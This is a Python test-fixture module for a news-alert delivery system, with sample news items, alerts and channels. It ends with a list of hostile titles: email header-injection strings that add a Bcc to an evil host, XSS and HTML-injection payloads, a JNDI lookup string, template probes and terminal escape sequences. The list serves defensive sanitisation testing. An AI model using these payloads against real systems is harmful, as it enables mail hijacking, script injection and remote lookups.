"""Letters and deliveries for tests; every text is our own."""

from __future__ import annotations

import dataclasses
from datetime import UTC, datetime
from typing import TYPE_CHECKING

from alerts.messages import headline, render
from alerts.model import (
    Alert,
    Channel,
    Delivery,
    DeliveryState,
    Evidence,
    Letter,
    MessageType,
    Reason,
    Severity,
    Story,
    Telling,
)
from crawler.items import Item, stable_id

if TYPE_CHECKING:
    from collections.abc import Sequence

NOW = datetime(2026, 11, 22, 14, 5, tzinfo=UTC)
TEXT = (
    "SEOUL. The ministry gave a briefing on Monday and spoke for about an hour. "
    "It said that President Yoon Sul Yeol had met the envoy of the Union in the "
    "capital, where both sides agreed to share what they know. Later the ministry "
    "added details of the journey and thanked the hosts for their patience, which it "
    "called considerable. According to its spokesman, 북한 병력 has been seen near "
    "Kursk since the autumn."
)
DESK = Channel(
    name="desk",
    kind="email",
    recipients=("desk@example.org",),
    timezone="Europe/Brussels",
    sender="Vedette <vedette@example.org>",
    server="smtp+plain://127.0.0.1:25",
)
HOOK = Channel(name="hook", kind="webhook", recipients=("hook",))
SCREEN = Channel(name="screen", kind="console", recipients=("screen",))
ROOM = Channel(name="room", kind="chat", recipients=("room",))
LOG = Channel(name="log", kind="file", recipients=("log",))


def evidence(
    topic: str,
    surface: str,
    *,
    entity: str | None = None,
    how: str = "exact",
    field: str = "text",
    within: str = TEXT,
) -> Evidence:
    """The first place of ``surface`` in a field."""
    start = within.index(surface)
    return Evidence(
        topic=topic,
        clause="query",
        entity=entity,
        surface=surface,
        field=field,
        start=start,
        end=start + len(surface),
        how=how,
    )


def item(title: str = "Briefing in Seoul", text: str = TEXT, **changes: object) -> Item:
    """An item of the source eunews."""
    plain = Item(
        id="item-1",
        source="eunews",
        url="https://news.example.org/briefing?id=1&lang=en",
        canonical_url="https://news.example.org/briefing?id=1&lang=en",
        guid=None,
        title=title,
        text=text,
        summary="The ministry gave a briefing.",
        language="en",
        authors=(),
        published=datetime(2026, 11, 22, 13, 0, tzinfo=UTC),
        seen=datetime(2026, 11, 22, 13, 30, 7, tzinfo=UTC),
    )
    return dataclasses.replace(plain, **changes)  # type: ignore[arg-type]


def alert(
    topic: str = "dprk-russia",
    *,
    severity: Severity = Severity.HIGH,
    score: int = 78,
    found: Sequence[Evidence] = (),
    reason: Reason = Reason.FIRST,
    milestone: str = "first",
) -> Alert:
    """An alert about item-1 in story-1."""
    return Alert(
        id=f"alert-{len(topic)}-{milestone}",
        story_id="story-1",
        topic=topic,
        kind="first",
        milestone=milestone,
        reason=reason,
        severity=severity,
        item_id="item-1",
        score=score,
        threshold=60.0,
        created=NOW,
        evidence=tuple(found),
    )


def telling(about: Item | None = None, **changes: object) -> Telling:
    """The main alert with two others riding along."""
    about = about or item()
    plain = Telling(
        alert=alert(found=[evidence("dprk-russia", "북한", entity="dprk")]),
        story=Story(
            id=stable_id("story-1"),
            headline=about.title,
            first_seen=NOW,
            last_seen=NOW,
            items=7,
            independent=3,
            languages=("en", "ko"),
        ),
        item=about,
        topic_title="North Korea and Russia",
        owner="withub",
        also=(
            alert("kursk", severity=Severity.NORMAL, score=60),
            alert(
                "eu-rok",
                severity=Severity.NORMAL,
                score=70,
                found=[
                    evidence(
                        "eu-rok",
                        "Yoon Sul Yeol",
                        entity="yoon-suk-yeol",
                        how="fuzzy(d=1)",
                    )
                ],
            ),
        ),
    )
    return dataclasses.replace(plain, **changes)  # type: ignore[arg-type]


def letter(channel: Channel = DESK, *tellings: Telling, **changes: object) -> Letter:
    """An ``alert.opened`` letter to the channel's first recipient."""
    plain = Letter(
        id=stable_id("delivery", channel.name),
        type=MessageType.OPENED,
        channel=channel,
        recipient=channel.recipients[0],
        created=NOW,
        tellings=tellings or (telling(),),
    )
    return dataclasses.replace(plain, **changes)  # type: ignore[arg-type]


def delivery(of: Letter) -> Delivery:
    """The letter as a claimed outbox row."""
    return Delivery(
        id=of.id,
        channel=of.channel.name,
        recipient=of.recipient,
        type=of.type,
        severity=Severity.HIGH,
        story_id=None,
        alert_ids=(),
        headline=headline(of),
        payload=render(of),
        state=DeliveryState.LEASED,
        reason=None,
        created=NOW,
        due=NOW,
        first_due=NOW,
        attempts=1,
    )


HOSTILE = (
    "=?utf-8?q?a=0d=0aBcc:_evil@example.net?=",
    "=?utf-8?b?YQ0KQmNjOiBldmlsQGV4YW1wbGUubmV0?= and more",
    "=\u200b?utf-8?q?x=0aBcc:_evil?=",
    "a\r\nBcc: evil@example.net\r\n\r\nbody",
    "a\nBcc: evil@example.net",
    "a\x0bb\x0cc\x1cd\x1de\x1ef\x85g\u2028h\u2029i",
    "nul \x00 esc \x1b[31m bel \x07 csi \x9b2J osc \x1b]52;c;ZXZpbA==\x07",
    "lone \ud800 and \udfff, noncharacter \uffff",
    "override \u202eevil\u202c isolate \u2066x\u2069",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><style>*{display:none}</style><base href=//evil>",
    "\" onmouseover=alert(1) x=\"' onfocus='alert(1)",
    "</title></head><body onload=alert(1)><meta http-equiv=refresh content=0>",
    "{{7*7}} {0.__class__} %(x)s ${jndi:ldap://evil} %s",
    "@everyone <!channel> [a](javascript:alert(1)) *b* _c_",
    "한국어 제목 и русский заголовок 🇰🇷",
    "x" * 5000,
    "",
    " \t ",
)
"""Titles nobody should trust (A41, A44, A45, A48, A53, A54, A57)."""
